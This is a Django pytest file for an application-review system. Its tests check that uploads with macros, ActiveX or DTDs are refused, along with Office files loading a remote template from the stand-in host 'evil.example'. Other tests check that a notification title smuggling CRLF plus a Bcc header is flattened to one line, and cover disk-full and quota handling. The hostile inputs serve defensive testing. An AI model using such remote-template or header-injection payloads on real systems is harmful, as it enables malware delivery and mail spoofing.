"""Issue 8, defects 14 and 15: clear Chinese refusals instead of 500s, with nothing stored; Office files that run
macros or load remote templates are refused; notification subjects are one line; the API docs load only local
assets under our CSP."""

import errno
import io
import os
import re
import zipfile

import pytest
from django.core import mail
from django.core.exceptions import ValidationError
from django.core.files.storage import FileSystemStorage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from applications import services
from applications.enums import AttachmentKind
from applications.models import Application, Attachment, Publicity
from applications.tests.conftest import *  # noqa: F403  (the application-process fixtures)
from applications.tests.conftest import pdf_upload
from core.storage import StorageFull
from core.uploads import validate_upload

pytestmark = pytest.mark.django_db


# --- Office files with macros or external templates -----------------------------------------------------------------


def _docx(extra=None, content_types=None, settings_rels=None):
    from docx import Document

    buffer = io.BytesIO()
    Document().save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "[Content_Types].xml" and content_types:
                data = data.replace(*content_types)
            target.writestr(item, data)
        if settings_rels:
            target.writestr("word/_rels/settings.xml.rels", settings_rels)
        for name, data in (extra or {}).items():
            target.writestr(name, data)
    return SimpleUploadedFile("材料.docx", out.getvalue())


EXTERNAL_TEMPLATE = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b' Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
HYPERLINK = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"'
    b' Target="https://www.cqgyxx.com/" TargetMode="External"/></Relationships>'
)


def test_a_plain_docx_and_one_with_a_hyperlink_are_accepted():
    validate_upload(_docx())
    validate_upload(_docx(extra={"word/_rels/footnotes.xml.rels": HYPERLINK}))


@pytest.mark.parametrize(
    "upload, code",
    [
        (lambda: _docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), "macro"),
        (
            lambda: _docx(
                content_types=(
                    b"wordprocessingml.document.main+xml",
                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
                )
            ),
            "macro",
        ),
        (lambda: _docx(settings_rels=EXTERNAL_TEMPLATE), "external"),
        (lambda: _docx(extra={"word/activeX/activeX1.xml": b"<ax/>"}), "macro"),
        (lambda: _docx(extra={"customXml/item9.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'}), "dtd"),
    ],
    ids=["vbaProject", "docm-content-type", "external-template", "activex", "dtd"],
)
def test_macro_enabled_or_externally_linked_office_files_are_refused(upload, code):
    with pytest.raises(ValidationError) as refused:
        validate_upload(upload())
    assert refused.value.code == code
    assert "已拒绝" in refused.value.message


# --- Disk full: a Chinese refusal, no partial file, no row ----------------------------------------------------------


@pytest.fixture
def disk_full(monkeypatch):
    """The disk fills up while the file is written: half of it is on disk when the OSError comes."""

    def write_half_then_fail(self, name, content):
        path = self.path(name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as handle:
            handle.write(b"%PDF-1.4 partial")
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(FileSystemStorage, "_save", write_half_then_fail)


def _stored_files(settings):
    root = settings.MEDIA_ROOT
    return [os.path.join(d, f) for d, _, files in os.walk(root) for f in files] if os.path.exists(root) else []


def test_upload_when_the_disk_is_full_is_refused_and_leaves_nothing(draft, applicant, settings, disk_full):
    before = _stored_files(settings)
    with pytest.raises(StorageFull):
        services.add_attachment(draft, by=applicant, kind=AttachmentKind.FORM_SCAN, uploaded_file=pdf_upload())
    assert not Attachment.objects.filter(application=draft).exists()
    assert _stored_files(settings) == before


def test_upload_page_when_the_disk_is_full_answers_507_in_chinese(draft, applicant, login, settings, disk_full):
    client = login(applicant)
    response = client.post(
        reverse("applications:attachment_upload", args=[draft.pk]),
        {"kind": AttachmentKind.FORM_SCAN, "file": pdf_upload()},
    )
    assert response.status_code == 507
    assert "服务器存储空间不足，文件未保存" in response.content.decode()
    assert not Attachment.objects.filter(application=draft).exists()
    assert not [f for f in _stored_files(settings) if "applications" in f]


# --- 500s found by the review ---------------------------------------------------------------------------------------


def test_admin_change_page_of_an_application_shows(complete_draft, admin_user, client):
    admin_user.is_staff = admin_user.is_superuser = True
    admin_user.save()
    client.force_login(admin_user)
    response = client.get(reverse("admin:applications_application_change", args=[complete_draft.pk]))
    assert response.status_code == 200
    assert "申报表.pdf" in response.content.decode()  # the attachment inline, uploaded_at shown read-only


def test_publicity_starting_on_9999_12_31_is_refused_in_chinese(complete_draft, walk, teaching_affairs, login):
    app = walk(complete_draft, "proposed")
    client = login(teaching_affairs)
    response = client.post(
        "/api/v1/applications/publicity",
        {"call_id": app.call_id, "application_ids": [app.pk], "starts_at": "9999-12-31T23:59:00"},
        content_type="application/json",
    )
    assert response.status_code == 422
    assert "公示开始时间 9999-12-31 超出可用范围" in response.json()["detail"]
    page = client.post(
        reverse("applications:publicity_create", args=[app.call_id]),
        {"title": "公示", "starts_at": "9999-12-31T23:59", "applications": [app.pk]},
    )
    assert page.status_code == 200 and "超出可用范围" in page.content.decode()
    assert not Publicity.objects.exists() and Application.objects.get(pk=app.pk).status == "proposed"


def test_nul_in_an_api_text_is_refused_before_the_database(complete_draft, walk, outsider, login):
    app = walk(complete_draft, "in_publicity")
    client = login(outsider)
    response = client.post(
        f"/api/v1/applications/publicity/{app.publicity_id}/objections",
        {"application_id": app.pk, "content": "材料\x00不实"},
        content_type="application/json",
    )
    assert response.status_code == 422
    assert "空字符" in response.json()["detail"]


# --- Notification subjects are one line -----------------------------------------------------------------------------


def test_crlf_in_a_title_gives_a_one_line_notification_and_mail_subject(
    applicant, settings, django_capture_on_commit_callbacks
):
    from core.notifications import notify

    applicant.email = "t9001@example.edu.cn"
    applicant.save()
    rows = notify([applicant], title="数控车工\r\nBcc: victim@example.com\u202e技能大师工作室已提交")
    assert rows[0].title == "数控车工 Bcc: victim@example.com技能大师工作室已提交"
    assert len(mail.outbox) == 1
    assert "\n" not in mail.outbox[0].subject and "\r" not in mail.outbox[0].subject
    assert mail.outbox[0].to == ["t9001@example.edu.cn"] and not mail.outbox[0].bcc


# --- Swagger UI from our own static files ---------------------------------------------------------------------------


def test_api_docs_page_loads_only_local_assets_without_inline_script(applicant, login):
    client = login(applicant)
    response = client.get("/api/v1/docs")
    assert response.status_code == 200
    html = response.content.decode()
    sources = re.findall(r'(?:src|href)="([^"]+)"', html)
    assert sources and all(s.startswith("/static/") for s in sources), sources
    assert any("swagger-ui-bundle" in s for s in sources) and any("api-docs" in s for s in sources)
    assert "cdn" not in html.lower() and "unpkg" not in html.lower()
    # every <script> has a src: nothing inline for the CSP to block
    assert all('src="' in tag for tag in re.findall(r"<script[^>]*>", html))
    csp = response.get("Content-Security-Policy", "")
    assert "'unsafe-inline'" not in csp
    from django.contrib.staticfiles import finders

    for source in sources:
        assert finders.find(source.removeprefix("/static/")), f"{source} is not a static file"


# --- Per-person upload quota ----------------------------------------------------------------------------------------


def _big_pdf(name, size):
    return SimpleUploadedFile(name, b"%PDF-1.4\n" + b"0" * (size - 9), content_type="application/pdf")


def test_uploads_past_the_personal_quota_are_refused_in_chinese(draft, applicant, login, settings):
    from core.models import StoredFile

    settings.UPLOAD_QUOTA_MB = 1
    client = login(applicant)
    url = reverse("applications:attachment_upload", args=[draft.pk])
    client.post(url, {"kind": AttachmentKind.FORM_SCAN, "file": _big_pdf("一.pdf", 600 * 1024)})
    assert Attachment.objects.filter(application=draft).count() == 1
    assert StoredFile.objects.filter(owner=applicant).count() == 1
    files_before = _stored_files(settings)
    response = client.post(url, {"kind": AttachmentKind.OTHER, "file": _big_pdf("二.pdf", 600 * 1024)}, follow=True)
    assert "将超过每人 1 MB 的上限" in response.content.decode()
    assert Attachment.objects.filter(application=draft).count() == 1
    assert _stored_files(settings) == files_before
    # deleting a file gives its space back
    attachment = Attachment.objects.get(application=draft)
    attachment.file.delete(save=False)
    assert not StoredFile.objects.filter(owner=applicant).exists()
